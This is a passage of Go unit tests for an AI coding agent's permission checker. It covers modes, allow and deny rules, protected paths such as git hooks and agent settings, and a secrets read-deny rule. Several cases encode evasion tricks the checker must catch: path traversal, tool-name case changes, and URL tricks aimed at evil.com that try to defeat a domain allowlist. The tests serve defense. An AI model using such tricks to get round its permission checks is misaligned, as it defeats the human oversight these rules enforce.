		{name: "edit covered by write deny", tool: "Edit", mode: ModeAcceptEdits, deny: []string{"Write(./src/**)"}, input: rd("src/b.go"), want: Deny},
		{name: "edit deny prefix only", tool: "Edit", mode: ModeAcceptEdits, deny: []string{"Edit(./src/**)"}, input: rd("srcx/a.go"), want: Allow},
		{name: "edit allow rule default", tool: "Edit", allow: []string{"Edit(./src/**)"}, input: rd("src/a.go"), want: Allow, wantRule: "Edit(./src/**)"},
		{name: "edit allow rule outside", tool: "Write", allow: []string{"Edit(//$OUT/**)"}, input: rd("$OUT/n"), want: Allow},
		{name: "edit allow does not reach out", tool: "Edit", allow: []string{"Edit(./src/**)"}, input: rd("src/../../outside/x"), want: Ask},
		{name: "write bypass outside", tool: "Write", mode: ModeBypassPermissions, input: rd("$OUT/n"), want: Allow},
		{name: "write bypass deny", tool: "Write", mode: ModeBypassPermissions, deny: []string{"Edit(//$OUT/**)"}, input: rd("$OUT/n"), want: Deny},
		{name: "write plan", tool: "Write", mode: ModePlan, input: rd("a.txt"), want: Deny},
		{name: "edit plan allow rule", tool: "Edit", mode: ModePlan, allow: []string{"Edit"}, input: rd("a.txt"), want: Deny},
		{name: "read plan", tool: "Read", mode: ModePlan, input: rd("a.txt"), want: Allow},
		{name: "read plan outside", tool: "Read", mode: ModePlan, input: rd("$OUT/x"), want: Ask},
		{name: "read dontAsk outside", tool: "Read", mode: ModeDontAsk, input: rd("$OUT/x"), want: Deny},
		{name: "write dontAsk", tool: "Write", mode: ModeDontAsk, input: rd("a.txt"), want: Deny},
		{name: "protected settings", tool: "Write", mode: ModeAcceptEdits, input: rd(".cadre/settings.json"), want: Ask},
		{name: "protected claude", tool: "Edit", mode: ModeAcceptEdits, input: rd(".claude/agents/x.md"), want: Ask},
		{name: "protected git hook", tool: "Write", mode: ModeAcceptEdits, input: rd(".git/hooks/pre-commit"), want: Ask},
		{name: "protected nested git", tool: "Write", mode: ModeAcceptEdits, input: rd("sub/.git/config"), want: Ask},
		{name: "protected whole-tool allow", tool: "Write", allow: []string{"Edit"}, input: rd(".git/config"), want: Ask},
		{name: "protected explicit allow", tool: "Write", allow: []string{"Edit(./.cadre/settings.local.json)"}, input: rd(".cadre/settings.local.json"), want: Allow},
		{name: "protected bypass", tool: "Write", mode: ModeBypassPermissions, input: rd(".cadre/settings.json"), want: Allow},
		{name: "worktree not protected", tool: "Write", mode: ModeAcceptEdits, input: rd(".cadre/worktrees/agent-a1/src/x.go"), want: Allow},
		{name: "worktree settings protected", tool: "Write", mode: ModeAcceptEdits, input: rd(".cadre/worktrees/agent-a1/.cadre/settings.json"), want: Ask},
		{name: "gitignore not protected", tool: "Write", mode: ModeAcceptEdits, input: rd(".gitignore"), want: Allow},
		{name: "protected read is fine", tool: "Read", input: rd(".git/config"), want: Allow},
		{name: "notebook edit", tool: "NotebookEdit", mode: ModeAcceptEdits, input: fileIn("notebook_path", "n.ipynb"), want: Allow},
	}
	runCases(t, f, cases)
}

func TestCheckOtherTools(t *testing.T) {
	f := newFixture(t)
	agent := func(typ string) string { return fileIn("subagent_type", typ) }
	mcp := func(tool string) checkCase { return checkCase{tool: tool, input: `{}`} }
	with := func(c checkCase, name string, allow, deny []string, want Behavior) checkCase {
		c.name, c.allow, c.deny, c.want = name, allow, deny, want
		return c
	}
	cases := []checkCase{
		// case tricks
		{name: "lowercase tool", tool: "bash", allow: []string{"bash"}, input: bashIn("ls"), want: Deny},
		{name: "uppercase read", tool: "READ", input: fileIn("file_path", "a.txt"), want: Deny},
		{name: "lowercase rule no allow", allow: []string{"bash(curl:*)"}, input: bashIn("curl x"), want: Ask},
		{name: "lowercase read rule", tool: "Read", allow: []string{"read"}, input: fileIn("file_path", "$OUT/x"), want: Ask},
		// agents
		{name: "agent", tool: "Agent", input: agent("Explore"), want: Allow},
		{name: "agent denied", tool: "Agent", deny: []string{"Agent(Explore)"}, input: agent("Explore"), want: Deny, wantRule: "Agent(Explore)"},
		{name: "agent other type", tool: "Agent", deny: []string{"Agent(Explore)"}, input: agent("Plan"), want: Allow},
		{name: "task alias rule", tool: "Agent", deny: []string{"Task(Explore)"}, input: agent("Explore"), want: Deny},
		{name: "task alias tool", tool: "Task", deny: []string{"Agent(Explore)"}, input: agent("Explore"), want: Deny},
		{name: "agent whole", tool: "Agent", deny: []string{"Agent"}, input: agent("Plan"), want: Deny},
		{name: "agent list", tool: "Agent", deny: []string{"Agent(Plan, Explore)"}, input: agent("Explore"), want: Deny},
		{name: "agent default type", tool: "Agent", ask: []string{"Agent(general-purpose)"}, input: `{"prompt":"x"}`, want: Ask},
		{name: "agent plan mode", tool: "Agent", mode: ModePlan, input: agent("Explore"), want: Allow},
		{name: "agent type case", tool: "Agent", deny: []string{"Agent(explore)"}, input: agent("Explore"), want: Allow},
		// MCP
		with(mcp("mcp__s__t"), "mcp default", nil, nil, Ask),
		with(mcp("mcp__s__t"), "mcp server", []string{"mcp__s"}, nil, Allow),
		with(mcp("mcp__s__t"), "mcp server star", []string{"mcp__s__*"}, nil, Allow),
		with(mcp("mcp__s__t"), "mcp all", []string{"mcp__*"}, nil, Allow),
		with(mcp("mcp__s__t"), "mcp exact", []string{"mcp__s__t"}, nil, Allow),
		with(mcp("mcp__s__t"), "mcp other tool", []string{"mcp__s__u"}, nil, Ask),
		with(mcp("mcp__s__t"), "mcp other server", []string{"mcp__x"}, nil, Ask),
		with(mcp("mcp__s__t"), "mcp server prefix", []string{"mcp__s2"}, nil, Ask),
		with(mcp("mcp__s__t"), "mcp deny wins", []string{"mcp__s__t"}, []string{"mcp__s__*"}, Deny),
		with(mcp("mcp__s__t"), "mcp deny all", []string{"mcp__s"}, []string{"mcp__*"}, Deny),
		{name: "mcp read-only claim", tool: "mcp__s__t", input: `{}`, readOnly: true, want: Ask},
		{name: "mcp plan", tool: "mcp__s__t", mode: ModePlan, input: `{}`, allow: []string{"mcp__s"}, want: Deny},
		{name: "mcp plan read-only", tool: "mcp__s__t", mode: ModePlan, input: `{}`, readOnly: true, allow: []string{"mcp__s"}, want: Allow},
		{name: "mcp bypass", tool: "mcp__s__t", mode: ModeBypassPermissions, input: `{}`, want: Allow},
		{name: "mcp dontAsk", tool: "mcp__s__t", mode: ModeDontAsk, input: `{}`, want: Deny},
		// WebFetch
		{name: "webfetch allow", tool: "WebFetch", allow: []string{"WebFetch(domain:x.com)"}, input: `{"url":"https://x.com/a"}`, want: Allow},
		{name: "webfetch query trick", tool: "WebFetch", allow: []string{"WebFetch(domain:x.com)"}, input: `{"url":"https://evil.com/?x.com"}`, want: Ask},
		{name: "webfetch suffix trick", tool: "WebFetch", allow: []string{"WebFetch(domain:x.com)"}, input: `{"url":"https://x.com.evil.com/"}`, want: Ask},
		{name: "webfetch userinfo trick", tool: "WebFetch", allow: []string{"WebFetch(domain:x.com)"}, input: `{"url":"https://x.com@evil.com/"}`, want: Ask},
		{name: "webfetch subdomain", tool: "WebFetch", allow: []string{"WebFetch(domain:x.com)"}, input: `{"url":"https://a.x.com/"}`, want: Ask},
		{name: "webfetch wildcard", tool: "WebFetch", allow: []string{"WebFetch(domain:*.x.com)"}, input: `{"url":"https://a.x.com/"}`, want: Allow},
		{name: "webfetch deny", tool: "WebFetch", allow: []string{"WebFetch"}, deny: []string{"WebFetch(domain:evil.com)"}, input: `{"url":"https://EVIL.com/"}`, want: Deny},
		// internal tools
		{name: "bashoutput", tool: "BashOutput", input: `{"bash_id":"1"}`, readOnly: true, want: Allow},
		{name: "killshell", tool: "KillShell", input: `{"shell_id":"1"}`, want: Allow},
		{name: "todowrite", tool: "TodoWrite", input: `{}`, want: Allow},
		{name: "content deny on plain tool", tool: "TodoWrite", deny: []string{"TodoWrite(x)"}, input: `{}`, want: Deny},
		{name: "content allow on plain tool", tool: "CustomTool", allow: []string{"CustomTool(x)"}, input: `{}`, want: Ask},
		{name: "custom read-only", tool: "Now", readOnly: true, input: `{}`, want: Allow},
		{name: "custom write", tool: "Deploy", input: `{}`, want: Ask},
		{name: "custom write allowed", tool: "Deploy", allow: []string{"Deploy"}, input: `{}`, want: Allow, wantRule: "Deploy"},
		{name: "custom write plan", tool: "Deploy", mode: ModePlan, allow: []string{"Deploy"}, input: `{}`, want: Deny},
		{name: "websearch", tool: "WebSearch", readOnly: true, input: `{"query":"x"}`, want: Ask},
	}
	runCases(t, f, cases)
}

func TestCheckerConfigErrors(t *testing.T) {
	if _, err := NewChecker(Config{Mode: ModeAuto}); err == nil || !strings.Contains(err.Error(), "auto") {
		t.Errorf("auto mode: err = %v", err)
	}
	if _, err := NewChecker(Config{Mode: ModeBypassPermissions, DisableBypass: true}); err == nil {
		t.Error("bypass with DisableBypass: no error")
	}
	if _, err := NewChecker(Config{Mode: "yolo"}); err == nil || !strings.Contains(err.Error(), "acceptEdits") {
		t.Errorf("bad mode: err = %v", err)
	}
	if _, err := NewChecker(Config{Rules: []Rule{{Tool: "Bash"}}}); err == nil {
		t.Error("rule without behavior: no error")
	}
	c, err := NewChecker(Config{Rules: []Rule{{Behavior: Allow, Tool: "bash", Source: "s.json"}, {Behavior: Deny, Tool: "TodoWrite", Content: "x"}}})
	if err != nil {
		t.Fatal(err)
	}
	if w := c.Warnings(); len(w) != 2 || !strings.Contains(w[1], "did you mean Bash?") || !strings.Contains(w[1], "s.json") || !strings.Contains(w[0], "whole tool") {
		t.Errorf("warnings = %q", w)
	}
}

func TestPathDenied(t *testing.T) {
	f := newFixture(t)
	deny, _ := ParseRules(Deny, "s.json", "", []string{"Read(./secrets/**)", "Edit(*.lock)"})
	c, err := NewChecker(Config{Cwd: f.cwd, Home: f.home, Rules: deny})
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		path string
		edit bool
		want string
	}{
		{"secrets/k", false, "Read(./secrets/**)"},
		{f.cwd + "/link-secret", false, "Read(./secrets/**)"},
		{"a.txt", false, ""},
		{"x/go.lock", true, "Edit(*.lock)"},
		{"x/go.lock", false, ""},
	} {
		r, ok := c.PathDenied(f.cwd, tc.path, tc.edit)
		if got := r.String(); ok != (tc.want != "") || ok && got != tc.want {
			t.Errorf("PathDenied(%q, %v) = %q, %v; want %q", tc.path, tc.edit, got, ok, tc.want)
		}
	}
}
